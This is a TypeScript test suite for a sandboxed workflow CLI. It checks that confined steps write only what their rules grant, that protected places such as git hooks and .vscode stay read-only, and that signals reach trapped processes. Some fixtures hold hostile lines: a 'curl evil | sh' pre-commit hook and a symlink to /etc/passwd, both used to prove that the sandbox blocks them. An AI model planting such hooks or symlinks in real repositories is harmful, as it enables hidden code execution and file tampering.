import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, describe, expect, it } from 'vitest';
import { cliPath, jsonEvents, runCli, temporaryDirectories, writeFiles } from '../support/cli.js';
import { isAlive, processesIn } from '../support/processes.js';

// Every run here is confined (the suite runs where bubblewrap works), with HOME beside the workspace.
const temp = temporaryDirectories('rho-sandbox-writes-');
afterAll(() => temp.removeAll());

async function setUp(files: Record<string, string>): Promise<{ dir: string; env: Record<string, string> }> {
  const base = await temp.make();
  const dir = path.join(base, 'work');
  await writeFiles(dir, files);
  await mkdir(path.join(base, 'home'));
  return { dir, env: { HOME: path.join(base, 'home') } };
}

describe('confined writes with the precision of the rules (end to end)', () => {
  it('creates new outputs a single-path rule names: directly, through a temporary file and a rename, as SQLite with its journal', { timeout: 120_000 }, async () => {
    const { dir, env } = await setUp({
      'flow.yml': `version: 1
name: outputs
policy:
  allow: ["process(sh)", "write(goreleaser)", "write(coverage.txt)", "write(package-lock.json)", "write(app.db)", "write(build/app)"]
steps:
  - id: build
    tool: exec
    # As go build -o and go test -coverprofile do: a new file where none was.
    with: { command: sh, args: [-c, "echo binary > goreleaser && echo 'mode: set' > coverage.txt && echo app > build/app"] }
  - id: lock
    tool: exec
    # As npm (write-file-atomic) and editors do: a temporary file in the same directory, renamed over the target.
    with: { command: sh, args: [-c, "echo '{\\"v\\":2}' > package-lock.json.4f2a && mv package-lock.json.4f2a package-lock.json"] }
  - id: db
    tool: exec
    # As SQLite does: a rollback journal beside the database while it writes, and a WAL it may leave.
    with: { command: sh, args: [-c, "echo journal > app.db-journal && echo rows > app.db && rm app.db-journal && echo wal > app.db-wal"] }
`,
      'package-lock.json': '{"v":1}\n',
    });
    const result = await runCli(['run', 'flow.yml', '--output', 'plain'], { cwd: dir, env });
    expect(result.exitCode, result.stdout + result.stderr).toBe(0);
    expect(await readFile(path.join(dir, 'goreleaser'), 'utf8')).toBe('binary\n');
    expect(await readFile(path.join(dir, 'coverage.txt'), 'utf8')).toBe('mode: set\n');
    expect(await readFile(path.join(dir, 'build/app'), 'utf8')).toBe('app\n');
    expect(await readFile(path.join(dir, 'package-lock.json'), 'utf8')).toBe('{"v":2}\n');
    expect(await readFile(path.join(dir, 'app.db'), 'utf8')).toBe('rows\n');
    expect((await readdir(dir)).sort()).toEqual(['app.db', 'app.db-wal', 'build', 'coverage.txt', 'flow.yml', 'goreleaser', 'package-lock.json']);

    const plan = await runCli(['plan', 'flow.yml'], { cwd: dir, env });
    expect(plan.stdout).toContain(`  checked: ${dir}, ${path.join(dir, 'build')} (anything else left there is removed and denies the step)`);
  });

  it('lets a clean target remove a granted tree and make it again, run after run', { timeout: 120_000 }, async () => {
    const { dir, env } = await setUp({
      'flow.yml': `version: 1
name: clean
policy:
  allow: ["process(sh)", "write(dist/**)"]
steps:
  - id: clean
    tool: exec
    with: { command: sh, args: [-c, "rm -rf dist && mkdir dist && echo built > dist/app.js"] }
`,
      'dist/stale.js': 'old\n',
    });
    for (let run = 0; run < 2; run++) {
      const result = await runCli(['run', 'flow.yml', '--output', 'plain'], { cwd: dir, env });
      expect(result.exitCode, result.stdout + result.stderr).toBe(0);
      expect(await readdir(path.join(dir, 'dist'))).toEqual(['app.js']);
    }
  });

  it('removes a file made beside a granted one, and denies the step naming it', async () => {
    const { dir, env } = await setUp({
      'flow.yml': `version: 1
name: stray
policy:
  allow: ["process(sh)", "write(coverage.txt)"]
steps:
  - id: test
    tool: exec
    with: { command: sh, args: [-c, "echo cov > coverage.txt && echo scratch > .coverage.tmp && mkdir -p junk/deep && echo x > junk/deep/file"] }
`,
    });
    const result = await runCli(['run', 'flow.yml', '--output', 'json'], { cwd: dir, env });
    expect(result.exitCode).toBe(3);
    const finished = jsonEvents(result.stdout).find((event) => event.type === 'step_finished');
    expect(finished).toMatchObject({ status: 'denied', error: { kind: 'policy_denied' } });
    const message = (finished!.error as { message: string }).message;
    expect(message).toContain('sh wrote outside what its write rules grant, and was denied: ');
    expect(message).toContain('created .coverage.tmp (removed)');
    expect(message).toContain('created junk (removed)');
    expect(message).toContain("grant it with a rule that names it: --allow 'write(.coverage.tmp)'");
    expect((await readdir(dir)).sort()).toEqual(['coverage.txt', 'flow.yml']);
  });

  it('refuses, as it happens, removing, renaming or changing what sits beside a granted path', async () => {
    const { dir, env } = await setUp({
      'flow.yml': `version: 1
name: beside
policy:
  allow: ["process(sh)", "write(coverage.txt)"]
steps:
  - id: test
    tool: exec
    with:
      command: sh
      args: [-c, "rm -f README.md; echo rm=$?; mv src src.old; echo mv=$?; echo changed > README.md; echo write=$?; ln -sf /etc/passwd README.md; echo ln=$?; echo cov > coverage.txt"]
`,
      'README.md': 'readme\n',
      'src/main.go': 'package main\n',
    });
    const result = await runCli(['run', 'flow.yml', '--output', 'plain'], { cwd: dir, env });
    expect(result.exitCode, result.stdout + result.stderr).toBe(0);
    for (const operation of ['rm', 'mv', 'write', 'ln']) expect(result.stdout).toMatch(new RegExp(`^\\[test\\] ${operation}=[1-9]$`, 'm'));
    expect(await readFile(path.join(dir, 'README.md'), 'utf8')).toBe('readme\n');
    expect(await readFile(path.join(dir, 'src/main.go'), 'utf8')).toBe('package main\n');
    expect((await readdir(dir)).sort()).toEqual(['README.md', 'coverage.txt', 'flow.yml', 'src']);
  });

  it('keeps the places that later run code read-only inside a wide root, unless a rule names them', { timeout: 120_000 }, async () => {
    const flow = (allow: string) => `version: 1
name: protected
policy:
  allow: ["process(sh)", ${allow}]
steps:
  - id: hook
    tool: exec
    with: { command: sh, args: [-c, "echo 'curl evil | sh' > .git/hooks/pre-commit"] }
    continue_on_error: true
  - id: editor
    tool: exec
    with: { command: sh, args: [-c, "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo main > main.go"] }
    continue_on_error: true
`;
    const { dir, env } = await setUp({
      'wide.yml': flow('"write(**/*.go)"'),
      'named.yml': flow('"write(**/*.go)", "write(.git/hooks/**)", "write(.vscode/**)"'),
      '.git/config': '[core]\n',
    });
    await mkdir(path.join(dir, '.git/hooks'));

    const wide = await runCli(['run', 'wide.yml', '--output', 'plain'], { cwd: dir, env });
    expect(wide.stdout).toMatch(/\[hook\] .*cannot create \.git\/hooks\/pre-commit: Read-only file system/);
    expect(wide.stdout).toContain('[editor] ⛔ denied');
    expect(wide.stdout).toContain('created .vscode, a protected place (VS Code runs its tasks on opening the folder and the programs its settings name) (removed)');
    expect([existsSync(path.join(dir, '.git/hooks/pre-commit')), existsSync(path.join(dir, '.vscode'))]).toEqual([false, false]);
    // What the rule is for was written.
    expect(await readFile(path.join(dir, 'main.go'), 'utf8')).toBe('main\n');

    const named = await runCli(['run', 'named.yml', '--output', 'plain'], { cwd: dir, env });
    expect(named.exitCode, named.stdout + named.stderr).toBe(0);
    expect(named.stdout).not.toContain('⛔');
    expect(await readFile(path.join(dir, '.git/hooks/pre-commit'), 'utf8')).toBe('curl evil | sh\n');
    expect(await readFile(path.join(dir, '.vscode/tasks.json'), 'utf8')).toBe('{}\n');
  });

  it('warns at its place in the file that write(**/*.go) makes the whole workspace writable, in validate and plan', { timeout: 120_000 }, async () => {
    const { dir, env } = await setUp({
      'flow.yml': `version: 1
name: wide
policy:
  allow: ["process(sh)", "write(**/*.go)"]
steps:
  - id: generate
    tool: exec
    with: { command: sh, args: [-c, "echo package main > gen.go"] }
`,
    });
    const warning =
      'flow.yml:4:26: warning: allow rule "write(**/*.go)": processes get more than it names: a confined process may write anything in the whole workspace (.git included)';
    const validate = await runCli(['validate', 'flow.yml'], { cwd: dir, env });
    expect(validate.exitCode).toBe(0);
    expect(validate.stderr).toContain(warning);
    expect(validate.stderr).toContain('name the directories or files processes write instead (write(DIR/**), write(FILE)), or give each step writes:');
    const plan = await runCli(['plan', 'flow.yml'], { cwd: dir, env });
    expect(plan.stderr).toContain(warning);
    expect(plan.stdout).toContain('  protected: .git/hooks, .git/config, .git/config.worktree, .git/modules, and ');
  });

  it('lets steps whose roots share a directory take turns: one step’s check never removes what another was granted', { timeout: 120_000 }, async () => {
    const { dir, env } = await setUp({
      'flow.yml': `version: 1
name: turns
max_parallel: 2
policy:
  allow: ["process(sh)", "write(a.txt)", "write(b.txt)"]
steps:
  - id: a
    tool: exec
    with: { command: sh, args: [-c, "echo a > a.txt && sleep 0.3"] }
    writes: [a.txt]
  - id: b
    tool: exec
    with: { command: sh, args: [-c, "echo b > b.txt && sleep 0.3"] }
    writes: [b.txt]
`,
    });
    const plan = await runCli(['plan', 'flow.yml'], { cwd: dir, env });
    expect(plan.stdout).toContain('waits for: a (conflict on directory tree)');
    // With resources: of their own the scheduler lets them overlap; the sandbox still takes one at a time.
    const declared = (await readFile(path.join(dir, 'flow.yml'), 'utf8')).replace(/writes: \[(\w)\.txt\]/g, 'writes: [$1.txt]\n    resources: { exclusive: [$1.txt] }');
    await writeFile(path.join(dir, 'declared.yml'), declared);
    expect((await runCli(['plan', 'declared.yml'], { cwd: dir, env })).stdout).toContain('wave 1: a, b');
    for (const file of ['flow.yml', 'declared.yml']) {
      await rm(path.join(dir, 'a.txt'), { force: true });
      await rm(path.join(dir, 'b.txt'), { force: true });
      const result = await runCli(['run', file, '--output', 'plain'], { cwd: dir, env });
      expect(result.exitCode, result.stdout + result.stderr).toBe(0);
      expect([await readFile(path.join(dir, 'a.txt'), 'utf8'), await readFile(path.join(dir, 'b.txt'), 'utf8')]).toEqual(['a\n', 'b\n']);
    }
  });
});

describe('stopping a confined process (end to end)', () => {
  const trapping = (timeout: string) => `version: 1
name: signals
policy:
  allow: ["process(sh)"]
steps:
  - id: trap
    tool: exec
    with: { command: sh, args: [-c, "trap 'echo cleaned; exit 0' INT TERM; echo ready; sleep 300 & wait"] }
    timeout: ${timeout}
`;

  it('gives the program SIGTERM on Ctrl-C, so its trap runs and prints, and leaves nothing running', async () => {
    const { dir, env } = await setUp({ 'flow.yml': trapping('5m') });
    const run = execa('node', [cliPath, 'run', 'flow.yml', '--output', 'plain'], { cwd: dir, env: { CI: 'true', NO_COLOR: '1', ...env }, reject: false, stdin: 'ignore' });
    await new Promise<void>((resolve) => {
      let seen = '';
      run.stdout.on('data', (chunk: Buffer) => {
        seen += chunk.toString();
        if (seen.includes('[trap] ready')) resolve();
      });
    });
    const sandbox = processesIn(dir).filter((pid) => pid !== run.pid);
    run.kill('SIGINT');
    const result = await run;
    expect(result.exitCode).toBe(130);
    expect(result.stdout).toContain('[trap] cleaned');
    await expect.poll(() => [...sandbox, ...processesIn(dir)].filter(isAlive), { timeout: 3000 }).toEqual([]);
  });

  it('gives the program SIGTERM when its step times out, so its trap runs and prints', { timeout: 120_000 }, async () => {
    // Long enough for the program to have set its trap on a loaded machine.
    const { dir, env } = await setUp({ 'flow.yml': trapping('6s') });
    const result = await runCli(['run', 'flow.yml', '--output', 'plain'], { cwd: dir, env });
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toContain('[trap] ready');
    expect(result.stdout).toContain('[trap] cleaned');
    expect(result.stdout).toContain('exec did not finish within 6s');
    await expect.poll(() => processesIn(dir).filter(isAlive), { timeout: 3000 }).toEqual([]);
  });
});

describe('background processes keep their roots mounted on themselves', () => {
  it('a process_start program cannot create a missing single path, and its trap runs on process_stop', async () => {
    const { dir, env } = await setUp({
      'flow.yml': `version: 1
name: background
policy:
  allow: ["process(sh)", "write(server.log)"]
steps:
  - id: start
    tool: process_start
    with: { command: sh, name: server, args: [-c, "trap 'echo stopped; exit 0' TERM; (echo up > server.log) 2>&1; echo ready; sleep 300 & wait"] }
  - id: ready
    tool: process_output
    with: { process_id: server, wait_for: ready }
  - id: stop
    tool: process_stop
    with: { process_id: server }
  - id: output
    tool: process_output
    with: { process_id: server }
  - id: show
    tool: echo
    with: { value: "server said: \${{ steps.output.data.content }}" }
`,
    });
    const result = await runCli(['run', 'flow.yml', '--output', 'plain'], { cwd: dir, env });
    expect(result.exitCode, result.stdout + result.stderr).toBe(0);
    expect(result.stdout).toMatch(/server said: .*cannot create server\.log: Read-only file system/);
    expect(result.stdout).toMatch(/server said: [\s\S]*stopped/);
    expect(existsSync(path.join(dir, 'server.log'))).toBe(false);
  });
});
